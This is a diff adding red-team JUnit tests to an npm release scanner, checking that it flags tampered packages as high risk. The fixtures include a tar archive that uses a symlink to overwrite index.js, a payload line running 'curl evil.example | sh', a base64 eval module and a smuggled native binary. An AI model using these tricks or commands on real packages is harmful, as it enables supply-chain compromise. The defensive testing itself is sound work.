@@ -323,6 +323,111 @@ class LinksAndHistoryScanTest {
         }
     }
 
+    // ---- red team, 2026-12-02 -----------------------------------------------------------------------------------
+
+    @Test
+    void aRegularEntryAfterALinkAtTheSamePathWritesThroughItAndIsAnEscape() throws Exception {
+        SortedMap<String, byte[]> tree = commit("7.0.0", "", true);
+        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+        try (GzipCompressorOutputStream gz = new GzipCompressorOutputStream(bytes);
+             TarArchiveOutputStream tar = new TarArchiveOutputStream(gz)) {
+            for (Map.Entry<String, byte[]> e : tree.entrySet()) {
+                TarArchiveEntry te = new TarArchiveEntry("package/" + e.getKey());
+                te.setSize(e.getValue().length);
+                tar.putArchiveEntry(te);
+                tar.write(e.getValue());
+                tar.closeArchiveEntry();
+            }
+            TarArchiveEntry link = new TarArchiveEntry("package/notes.txt", TarArchiveEntry.LF_SYMLINK);
+            link.setLinkName("index.js"); // then a file at the same path: tar writes it into index.js
+            tar.putArchiveEntry(link);
+            tar.closeArchiveEntry();
+            byte[] payload = utf8("require('child_process').exec('curl evil.example | sh');\n");
+            TarArchiveEntry over = new TarArchiveEntry("package/notes.txt");
+            over.setSize(payload.length);
+            tar.putArchiveEntry(over);
+            tar.write(payload);
+            tar.closeArchiveEntry();
+        }
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
+            npm.publishTarball("7.0.0", bytes.toByteArray(), tree.get("package.json"));
+            ReleaseReport r = scan(npm, "7.0.0");
+            assertEquals(Verdict.HIGH_RISK, r.verdict(), r.reason().orElse(""));
+            assertTrue(r.artifacts().get(0).files().stream().anyMatch(f -> f.artifactPath().orElse("").equals(
+                    "package/notes.txt") && f.riskFlags().contains(RiskFlag.LINK)
+                    && !f.riskFlags().contains(RiskFlag.LINK_IN_ARCHIVE) && f.highRisk()));
+        }
+    }
+
+    @Test
+    void aBuildTagThatIsAnEarlierStateOfTheVersionsLineIsNotItsBuild() throws Exception {
+        // 7.1.0-build is a pre-release on the same line (an ancestor of 7.1.0's tag): shipping it as 7.1.0 is a roll-back
+        SortedMap<String, byte[]> pre = packageLayout("7.1.0", "module.exports = function () { return 'old'; };\n");
+        git.commit(pre, "7.1.0-build", when = when.plusSeconds(3600));
+        git.tag("7.1.0-build", false);
+        SortedMap<String, byte[]> fin = packageLayout("7.1.0", "module.exports = function () { return 'fixed'; };\n");
+        String finalCommit = git.commit(fin, "7.1.0", when = when.plusSeconds(3600));
+        git.tag("7.1.0", false);
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
+            npm.publish("7.1.0", pre);
+            ReleaseReport r = scan(npm, "7.1.0");
+            assertEquals(Optional.of(finalCommit), r.ref().commit());
+            assertEquals(Verdict.DIVERGENT, r.verdict());
+        }
+    }
+
+    @Test
+    void contentAndDependenciesOnlyASideBranchHeldAreNotThisLinesHistory() throws Exception {
+        SortedMap<String, byte[]> base = commit("7.2.0", "\"left-pad\": \"^1.3.0\"", true);
+        // a side branch (anyone with push access can make one) holds a payload module and a dependency
+        SortedMap<String, byte[]> experiment = with(base, "package.json",
+                manifest("7.2.0", "\"left-pad\": \"^1.3.0\", \"helper\": \"^2.0.0\""),
+                "index.js", "module.exports = require('./lib/core'); // experiment\n",
+                "lib/core.js", "module.exports = function () { return eval(Buffer.from('x', 'base64').toString()); };\n");
+        git.commit(experiment, "experiment", when = when.plusSeconds(3600));
+        try (org.eclipse.jgit.api.Git g = org.eclipse.jgit.api.Git.open(git.dir().toFile())) {
+            var u = g.getRepository().updateRef("refs/heads/experiment");
+            u.setNewObjectId(g.getRepository().resolve("HEAD"));
+            u.forceUpdate();
+            g.reset().setMode(org.eclipse.jgit.api.ResetCommand.ResetType.HARD).setRef("v7.2.0").call();
+        }
+        SortedMap<String, byte[]> release = with(base, "package.json", manifest("7.2.1", "\"left-pad\": \"^1.3.0\""));
+        git.commit(release, "7.2.1", when = when.plusSeconds(3600));
+        git.tag("v7.2.1", false);
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
+            npm.publish("7.2.1", with(release, "package.json", manifest("7.2.1",
+                    "\"left-pad\": \"^1.3.0\", \"helper\": \"^2.0.0\""), "lib/core.js",
+                    new String(experiment.get("lib/core.js"), StandardCharsets.UTF_8)));
+            ReleaseReport r = scan(npm, "7.2.1");
+            assertEquals(Optional.of("v7.2.1"), r.ref().tag(), r.ref().note().orElse(""));
+            FileDivergence core = row(r.artifacts().get(0), "package/lib/core.js");
+            assertEquals(FileStatus.IN_HISTORY, core.status());
+            assertTrue(core.highRisk(), core.toString());
+            FileDivergence pj = row(r.artifacts().get(0), "package/package.json");
+            assertEquals(NpmGeneratedFiles.NEW_DEPENDENCY, pj.ruleId());
+            assertEquals(Verdict.HIGH_RISK, r.verdict());
+        }
+    }
+
+    @Test
+    void aNativeFileFromHistoryIsHighRisk() throws Exception {
+        byte[] elf = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0};
+        SortedMap<String, byte[]> old = with(commit("7.3.0", "", false), "test/fixtures/addon.node",
+                new String(elf, StandardCharsets.ISO_8859_1), "index.js", "module.exports = 0; // older\n");
+        git.commit(old, "a fixture, later removed", when = when.plusSeconds(3600));
+        SortedMap<String, byte[]> tree = commit("7.3.0", "", true);
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
+            SortedMap<String, byte[]> shipped = new java.util.TreeMap<>(tree);
+            shipped.put("prebuilds/linux-x64/node.napi.node", old.get("test/fixtures/addon.node"));
+            npm.publish("7.3.0", shipped);
+            ReleaseReport r = scan(npm, "7.3.0");
+            FileDivergence node = row(r.artifacts().get(0), "package/prebuilds/linux-x64/node.napi.node");
+            assertEquals(FileStatus.IN_HISTORY, node.status());
+            assertTrue(node.riskFlags().contains(RiskFlag.BINARY), node.toString());
+            assertTrue(node.highRisk(), node.toString());
+        }
+    }
+
     static byte[] utf8(String s) {
         return s.getBytes(StandardCharsets.UTF_8);
     }
